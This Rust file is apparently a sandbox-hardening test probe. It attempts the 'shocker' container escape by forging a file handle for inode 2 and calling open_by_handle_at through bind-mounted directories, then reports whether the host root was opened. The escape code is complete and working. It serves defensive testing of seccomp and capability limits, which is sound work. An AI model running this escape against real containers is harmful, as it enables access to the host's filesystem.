//! The "shocker" escape: open_by_handle_at opens a file by its inode number
//! on any filesystem a mount fd points into, skipping path lookup — so with
//! a handle for inode 2 (the root of an ext4 filesystem) and an fd on a
//! bind-mounted host directory (/etc in the host template), it opens the
//! host's real root. Also tries name_to_handle_at to learn the handle
//! format.
//!
//! Contained: open_by_handle_at answers EPERM (seccomp; CAP_DAC_READ_SEARCH
//! is not granted). Escaped: any handle was opened.

use std::os::fd::AsRawFd;

use brig_hostile::{cstr, errno, errno_name, open, Args, Report};

fn main() {
    let _args = Args::get();
    let mut report = Report::new("open_by_handle");

    // struct file_handle { u32 handle_bytes; i32 handle_type; u8 f_handle[]; }
    let mut buf = [0u8; 8 + 128];
    buf[0..4].copy_from_slice(&128u32.to_ne_bytes());
    let mut mount_id = 0i32;
    let etc = cstr("/etc");
    // SAFETY: buf holds a file_handle with room for 128 bytes; mount_id is a valid out-pointer.
    let r = unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            etc.as_ptr(),
            buf.as_mut_ptr(),
            &mut mount_id,
            0,
        )
    };
    if r == 0 {
        let bytes = u32::from_ne_bytes(buf[0..4].try_into().unwrap());
        let ty = i32::from_ne_bytes(buf[4..8].try_into().unwrap());
        report.note(format!(
            "name_to_handle_at(/etc): type {ty:#x}, {bytes} bytes, mount id {mount_id}"
        ));
    } else {
        report.note(format!("name_to_handle_at(/etc): {}", errno_name(errno())));
    }

    // FILEID_INO32_GEN (1): { u32 ino; u32 gen; } for inode 2, generation 0.
    let mut handle = [0u8; 16];
    handle[0..4].copy_from_slice(&8u32.to_ne_bytes());
    handle[4..8].copy_from_slice(&1i32.to_ne_bytes());
    handle[8..12].copy_from_slice(&2u32.to_ne_bytes());
    for dir in ["/etc", "/usr", "/", "/tmp", "/proc", "/dev"] {
        let Ok(mfd) = open(dir, libc::O_RDONLY | libc::O_DIRECTORY) else {
            continue;
        };
        // SAFETY: handle is a valid file_handle; mfd is open.
        let r = unsafe {
            libc::syscall(
                libc::SYS_open_by_handle_at,
                mfd.as_raw_fd(),
                handle.as_mut_ptr(),
                libc::O_RDONLY | libc::O_DIRECTORY,
            )
        };
        if r >= 0 {
            let listing = std::fs::read_dir(format!("/proc/self/fd/{r}")).map(|rd| {
                rd.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .take(12)
                    .collect::<Vec<_>>()
            });
            report.escape(format!(
                "open_by_handle_at(inode 2 via {dir}) opened a directory: {listing:?}"
            ));
            // SAFETY: r is the fd just returned.
            unsafe { libc::close(r as i32) };
        } else {
            report.note(format!(
                "open_by_handle_at(inode 2 via {dir}): {}",
                errno_name(errno())
            ));
        }
    }
    report.finish()
}
